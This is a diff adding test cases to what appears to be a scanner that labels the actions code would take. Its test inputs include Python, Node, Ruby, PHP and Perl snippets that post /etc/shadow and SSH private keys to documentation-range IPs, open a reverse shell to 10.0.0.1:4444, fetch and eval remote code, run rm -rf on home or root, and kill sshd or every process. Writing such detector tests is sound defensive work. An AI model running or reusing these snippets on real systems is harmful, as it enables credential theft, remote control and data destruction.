@@ -142,6 +142,37 @@ for f in files:
 def clean(path):
     os.remove(path)
 clean("/etc/passwd")`, []string{"delete /etc/passwd"}},
+	// Issue 35: a call of a function the code defines reads its body with
+	// the call's arguments.
+	{"python", "import requests\ndef post(url, body):\n    requests.post(url, data=body)\npost(\"https://203.0.113.9/in\", open(\"/etc/shadow\").read())",
+		[]string{"read /etc/shadow", "connect https://203.0.113.9/in", "send /etc/shadow -> https://203.0.113.9/in"}},
+	{"python", "import socket, os, subprocess\ndef connect(h, p):\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect((h, p))\n    return s\ndef wire(s):\n    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\ndef shell():\n    subprocess.call([\"/bin/sh\", \"-i\"])\ns = connect(\"10.0.0.1\", 4444)\nwire(s)\nshell()",
+		[]string{"connect 10.0.0.1:4444", "sh: /bin/sh -i", "download 10.0.0.1:4444 | sh", "send output -> 10.0.0.1:4444"}},
+	{"python", "import subprocess\ndef run(c):\n    subprocess.call(c, shell=True)\nrun(\"rm -rf ~\")", []string{"sh: rm -rf ~"}},
+	{"python", "import os\nrun = lambda c: os.system(c)\nrun(\"rm -rf ~\")", []string{"sh: rm -rf ~"}},
+	{"python", `import os; (lambda c: os.system(c))("rm -rf /")`, []string{"sh: rm -rf /"}},
+	{"python", "import requests\nclass Uploader:\n    def __init__(self, url):\n        self.url = url\n    def send(self, data):\n        return requests.post(self.url, data=data)\nu = Uploader(\"https://198.51.100.7/drop\")\nu.send(open(\"/home/a/.ssh/id_rsa\").read())",
+		[]string{"read /home/a/.ssh/id_rsa", "connect https://198.51.100.7/drop", "send /home/a/.ssh/id_rsa -> https://198.51.100.7/drop"}},
+	{"python", "import shutil\ndef outer():\n    def inner(p):\n        shutil.rmtree(p)\n    inner(\"/home/a\")\nouter()", []string{"delete -r /home/a"}},
+	{"python", "import shutil\ndef wipe(target=\"/\"):\n    shutil.rmtree(target)\nwipe()", []string{"delete -r /"}},
+	{"python", "import shutil\ndef wipe(*, target):\n    shutil.rmtree(target)\nwipe(target=\"/srv\")", []string{"delete -r /srv"}},
+	{"python", "import os, urllib.request\ndef key_path():\n    return os.path.expanduser(\"~/.ssh/id_rsa\")\nurllib.request.urlopen(\"http://203.0.113.9/k\", data=open(key_path()).read().encode())",
+		[]string{"read /home/a/.ssh/id_rsa", "connect http://203.0.113.9/k", "send /home/a/.ssh/id_rsa -> http://203.0.113.9/k"}},
+	{"python", "import requests\ndef get(u):\n    return requests.get(u).text\nexec(get(\"http://203.0.113.9/p.py\"))",
+		[]string{"connect http://203.0.113.9/p.py", "download http://203.0.113.9/p.py | python", "unknown"}},
+	{"python", "import os\ndef pick(x):\n    if x:\n        return \"/tmp/a\"\n    return \"/etc/passwd\"\nos.remove(pick(flag))", []string{"unknown"}},
+	// not seen called, or called with a value not known: read with its
+	// parameters unknown, as before
+	{"python", "import threading, os\ndef worker(c):\n    os.system(c)\nthreading.Thread(target=worker, args=(\"rm -rf ~\",)).start()", []string{"unknown"}},
+	{"python", "import os, threading\nclass W(threading.Thread):\n    def __init__(self, c):\n        self.c = c\n    def run(self):\n        os.system(self.c)\nW(\"rm -rf ~\").start()", []string{"unknown"}},
+	{"python", "import os\ndef run(c):\n    os.system(c)\nrun(\"ls\")\nfor x in [run]:\n    x(input())", []string{"sh: ls", "unknown", "unknown"}},
+	{"python", "import os\ndef f(n):\n    os.remove(\"/tmp/x\")\n    f(n - 1)\nf(3)", []string{"delete /tmp/x", "delete /tmp/x"}},
+	// ordinary helpers stay read exactly
+	{"python", "import requests\ndef fetch(path):\n    return requests.get(\"https://api.github.com/\" + path, timeout=10).json()\nprint(fetch(\"repos/octocat/hello-world\"))",
+		[]string{"connect https://api.github.com/repos/octocat/hello-world"}},
+	{"python", "import json\ndef write_report(path, data):\n    with open(path, \"w\") as f:\n        json.dump(data, f)\nwrite_report(\"build/report.json\", {\"ok\": True})", []string{"write /w/build/report.json"}},
+	{"python", "import subprocess, sys\ndef run(*cmd):\n    return subprocess.run(cmd, capture_output=True, text=True).returncode\nrun(sys.executable, \"-m\", \"pytest\", \"-q\")\nrun(\"git\", \"status\")",
+		[]string{"sh: python3 -m pytest -q", "sh: git status"}},
 	{"python", `import os; os.remove("{}/x".format(base))`, []string{"unknown"}},
 	{"python", `import os; os.remove(sys.argv[1])`, []string{"unknown"}},
 	{"python", `import os; (p := "/etc/passwd") and os.remove(p)`, []string{"delete /etc/passwd"}},
@@ -345,6 +376,19 @@ kill_processes()`, []string{"signal KILL sshd"}},
 for p in psutil.process_iter():
     if "dockerd" in p.name() or p.name() == "containerd":
         os.kill(p.pid, signal.SIGTERM)`, []string{"signal TERM dockerd,containerd"}},
+	// Issue 35: process listings filtered, then signalled.
+	{"python", "import os, signal\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n        with open(f'/proc/{pid}/cmdline') as f:\n            if 'sshd' in f.read():\n                os.kill(int(pid), signal.SIGKILL)",
+		[]string{"read /proc", "unknown", "read /proc/*/cmdline", "signal KILL sshd"}},
+	{"python", "import os\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n        os.kill(int(pid), 9)", []string{"read /proc", "signal KILL *"}},
+	{"python", "import os, signal, subprocess\nfor pid in subprocess.check_output(['pgrep', '-f', 'dockerd']).split():\n    os.kill(int(pid), signal.SIGTERM)",
+		[]string{"sh: pgrep -f dockerd", "signal TERM dockerd"}},
+	{"python", "import os, subprocess\nos.kill(int(subprocess.check_output('pgrep -f vite', shell=True)), 15)", []string{"sh: pgrep -f vite", "signal TERM vite"}},
+	{"python", "import os, subprocess\nout = subprocess.check_output([\"ps\", \"-eo\", \"pid,comm\"]).decode()\nfor line in out.splitlines()[1:]:\n    pid, name = line.split(None, 1)\n    if name.strip() == \"sshd\":\n        os.kill(int(pid), 9)",
+		[]string{"sh: ps -eo pid,comm", "signal KILL sshd"}},
+	{"python", "import psutil\nfor p in psutil.process_iter():\n    if p.name() != \"bash\":\n        p.kill()", []string{"signal KILL *"}},
+	{"python", "import psutil\n[p.kill() for p in psutil.process_iter() if p.name() == \"sshd\"]", []string{"signal KILL sshd"}},
+	{"python", "import psutil\ndef kill_named(name):\n    for p in psutil.process_iter():\n        if p.name() == name:\n            p.terminate()\nkill_named(\"kubelet\")", []string{"signal TERM kubelet"}},
+	{"python", "import psutil\nfor p in psutil.process_iter(['pid', 'cmdline']):\n    if any('ahp' in c for c in (p.info['cmdline'] or [])):\n        p.terminate()", []string{"signal TERM ahp"}},
 	{"python", `import subprocess, requests
 r = requests.get("http://x.example/s.sh")
 subprocess.run(["bash"], input=r.text)`, []string{"connect http://x.example/s.sh", "download http://x.example/s.sh | bash", "sh: bash"}},
@@ -483,6 +527,25 @@ return /a/;})();`, []string{"sh: /bin/sh", "connect 10.0.0.1:4242", "download 10
 	{"python", `while 1: __import__("os").fork()`, []string{"unknown"}},
 	{"python", "import os\nfor i in range(4):\n    os.fork()", nil},
 	{"perl", `fork while fork`, []string{"unknown"}},
+	// Issue 35: code fetched then evaluated, and functions the scanner follows.
+	{"node", `fetch("http://203.0.113.9/p.js").then(r=>r.text()).then(eval)`,
+		[]string{"connect http://203.0.113.9/p.js", "unknown", "download http://203.0.113.9/p.js | node"}},
+	{"node", `fetch("http://203.0.113.9/p.js").then(r => r.text()).then(t => new Function(t)())`,
+		[]string{"connect http://203.0.113.9/p.js", "unknown", "download http://203.0.113.9/p.js | node"}},
+	{"ruby", `require 'net/http'; eval(Net::HTTP.get(URI("http://203.0.113.9/p.rb")))`,
+		[]string{"unknown", "connect http://203.0.113.9/p.rb", "download http://203.0.113.9/p.rb | ruby"}},
+	{"php", `eval(file_get_contents("http://203.0.113.9/p.php"));`,
+		[]string{"unknown", "connect http://203.0.113.9/p.php", "download http://203.0.113.9/p.php | php"}},
+	{"perl", `use LWP::Simple; eval(get("http://203.0.113.9/p.pl"));`, []string{"unknown", "download http://203.0.113.9/p.pl | perl"}},
+	{"python", `import urllib.request; exec(urllib.request.urlopen("http://203.0.113.9/p.py").read())`,
+		[]string{"connect http://203.0.113.9/p.py", "download http://203.0.113.9/p.py | python", "unknown"}},
+	{"node", `function f(a){ require('child_process').execSync(a) } f("rm -rf ~")`, []string{"unknown", "sh: rm -rf ~"}},
+	{"node", `const run = (c) => require("child_process").execSync(c); run("rm -rf /")`, []string{"unknown", "sh: rm -rf /"}},
+	{"node", `const cp = require("child_process"); const sh = c => cp.execSync(c); sh("git status")`, []string{"unknown", "sh: git status"}},
+	{"node", "var f = function (p) { require('fs').rmSync(p, {recursive: true}) }\nf('/home/a')", []string{"unknown", "delete -r /home/a"}},
+	{"php", `function run($c) { system($c); } run("rm -rf ~");`, []string{"unknown", "sh: rm -rf ~"}},
+	{"perl", `sub run { my ($c) = @_; system($c); } run("rm -rf ~");`, []string{"unknown", "sh: rm -rf ~"}},
+	{"perl", `sub run { my $c = shift; system($c); } run("rm -rf ~");`, []string{"unknown", "sh: rm -rf ~"}},
 	{"python", `import pickle, urllib.request; pickle.loads(urllib.request.urlopen("http://h.example/o.pkl").read())`,
 		[]string{"connect http://h.example/o.pkl", "download http://h.example/o.pkl | pickle"}},
 	{"python", `import asyncio
